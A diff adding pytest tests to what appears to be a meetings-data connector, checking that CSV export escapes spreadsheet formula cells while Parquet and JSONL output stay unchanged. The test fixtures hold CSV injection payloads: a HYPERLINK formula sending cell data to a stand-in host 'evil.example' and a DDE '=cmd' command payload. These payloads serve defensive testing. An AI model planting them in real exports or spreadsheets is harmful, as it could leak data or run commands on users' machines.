@@ -86,3 +86,105 @@ def test_window_flag_keeps_meetings_starting_in_the_range(emulator: Any, tmp_pat
     assert sorted(pq.read_table(tmp_path / "overlap.parquet").column("meeting_id").to_pylist()) == sorted(overlap)
     assert sorted(pq.read_table(tmp_path / "start.parquet").column("meeting_id").to_pylist()) == sorted(start)
     assert start and start <= set(overlap)
+
+
+RISKY_TITLES = [
+    '=HYPERLINK("https://evil.example/?"&A2,"open")',
+    "+1 intro call",
+    "-standup-",
+    "@channel review",
+    "\t=1+1",
+    "\r=2+2",
+    "Plain = title",
+]
+
+
+def _post_titled(raw: Any) -> dict[str, str]:
+    """Meetings whose title and description start with formula characters; meeting_id -> title."""
+    made = {}
+    for i, title in enumerate(RISKY_TITLES):
+        body = {
+            "title": title,
+            "description": "=cmd|' /C calc'!A0" if i % 2 else "-- notes",
+            "is_all_day": False,
+            "start": {"datetime": f"2031-01-0{i + 1}T09:00:00Z", "timezone": "UTC"},
+            "end": {"datetime": f"2031-01-0{i + 1}T10:00:00Z", "timezone": "UTC"},
+            "participants": [{"email_address": "ana@example.com", "is_organizer": True, "status": "accepted"}],
+            "linked_records": [],
+        }
+        response = raw.post({"data": body})
+        assert response.status == 200, response.body
+        made[response.json()["data"]["id"]["meeting_id"]] = title
+    return made
+
+
+def _csv_rows(path: Path) -> dict[str, dict[str, str]]:
+    import csv
+
+    with path.open(newline="", encoding="utf-8") as handle:
+        return {row["meeting_id"]: row for row in csv.DictReader(handle)}
+
+
+@pytest.mark.parametrize(
+    ("flags", "escaped"),
+    [
+        pytest.param([], True, id="default-escapes"),
+        pytest.param(["--csv-formulas", "escape"], True, id="escape"),
+        pytest.param(["--csv-formulas", "keep"], False, id="keep"),
+    ],
+)
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(
+    emulator: Any, raw: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, flags: list[str], escaped: bool
+) -> None:
+    from connector.csvsafe import neutralise_cell
+
+    made = _post_titled(raw)
+    monkeypatch.setenv("ATTIO_API_KEY", emulator.token)
+    out = tmp_path / "m.csv"
+    bounds = ["--ends-from", "2031-01-01", "--starts-before", "2031-02-01"]
+    assert main(["extract", "--base-url", emulator.url, "--read-rate", "0", "-q", "--output", str(out), *bounds, *flags]) == 0
+    rows = _csv_rows(out)
+    assert set(rows) == set(made)
+    for mid, title in made.items():
+        row = rows[mid]
+        assert row["title"] == (neutralise_cell(title) if escaped else title)
+        assert row["description"] in (("'=cmd|' /C calc'!A0", "'-- notes") if escaped else ("=cmd|' /C calc'!A0", "-- notes"))
+        # text that is no formula, and the columns that are not text, are written as they are
+        assert row["is_all_day"] == "false" and row["start_datetime"].startswith("2031-01-0")
+        assert row["participants"].startswith("[") and row["meeting_id"] == mid
+    if escaped:
+        assert not any(row[c][:1] in "=+-@\t\r" for row in rows.values() for c in row if row[c])
+
+
+def test_csv_formulas_leave_parquet_and_jsonl_exact_and_the_library_takes_the_option(
+    emulator: Any, raw: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import anyio
+    from extract_helpers import client_config
+
+    from connector import AttioClient, MeetingQuery
+    from connector.extract import CsvSink, ExtractConfig, extract
+
+    made = _post_titled(raw)
+    monkeypatch.setenv("ATTIO_API_KEY", emulator.token)
+    bounds = ["--ends-from", "2031-01-01", "--starts-before", "2031-02-01", "--csv-formulas", "escape"]
+    for name in ("m.jsonl", "m.parquet"):
+        assert main(["extract", "--base-url", emulator.url, "-q", "--read-rate", "0", "--output", str(tmp_path / name), *bounds]) == 0
+    lines = [json.loads(line) for line in (tmp_path / "m.jsonl").read_text().splitlines()]
+    assert {row["meeting_id"]: row["title"] for row in lines} == made
+    table = pq.read_table(tmp_path / "m.parquet")
+    assert dict(zip(table.column("meeting_id").to_pylist(), table.column("title").to_pylist(), strict=True)) == made
+
+    async def library(formulas: Any) -> None:
+        cfg = ExtractConfig(query=MeetingQuery(ends_from="2031-01-01", starts_before="2031-02-01"))
+        async with AttioClient(client_config(emulator)) as client:
+            await extract(client, cfg, CsvSink(tmp_path / f"{formulas}.csv", formulas=formulas))
+
+    for formulas in ("keep", "escape"):
+        anyio.run(library, formulas)
+    assert {mid: row["title"] for mid, row in _csv_rows(tmp_path / "keep.csv").items()} == made
+    assert {mid: row["title"] for mid, row in _csv_rows(tmp_path / "escape.csv").items()} == {
+        mid: "'" + title if title[0] in "=+-@\t\r" else title for mid, title in made.items()
+    }
+    with pytest.raises(ValueError, match="csv_formulas"):
+        CsvSink(tmp_path / "x.csv", formulas="strip")  # type: ignore[arg-type]
